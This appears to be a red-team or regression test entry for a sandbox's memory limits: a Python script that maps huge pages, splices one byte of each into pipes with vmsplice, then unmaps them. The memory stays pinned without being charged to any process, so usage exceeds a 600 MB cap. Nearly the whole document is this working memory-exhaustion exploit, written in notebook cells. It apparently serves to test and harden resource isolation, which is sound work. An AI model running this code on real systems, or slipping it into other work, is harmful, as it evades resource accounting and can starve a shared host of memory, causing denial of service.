# attack: memory_that_only_pipes_hold
# kind: exhaust
# tries: hangs a byte of each huge page into a pipe and gives the page back: then no process has it, and it is not free
# seen: more than twice the limit of 600 MB hangs in pipes
# deserves: nothing
# extra: before 3.2a
# %%
import ctypes, os, time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
PAGE, pipes, held = 2 * 2**20, [], 0

def hang(seconds):
    global held
    ends = time.monotonic() + seconds
    while time.monotonic() < ends and held * 2 <= 1_300:
        if held % 16 == 0:
            pipes.append(os.pipe())
        at = libc.mmap(None, 2 * PAGE, 3, 0x22, -1, 0)
        page = (at + PAGE - 1) // PAGE * PAGE
        libc.madvise(page, PAGE, 14)
        ctypes.memset(page, 1, PAGE)
        part = (ctypes.c_size_t * 2)(page, 1)
        taken = libc.vmsplice(pipes[-1][1], part, 1, 0)
        libc.munmap(at, 2 * PAGE)
        if taken != 1:
            return
        held += 1
    if held * 2 > 1_200:
        raise RuntimeError(f"FELL: {held * 2} MB hang in {len(pipes)} pipes")

hang(2.5)
# extra: before 3.2a
# %%
hang(2.5)
# extra: before 3.2a
# %%
hang(2.5)
# extra: before 3.2a
# %%
hang(2.5)
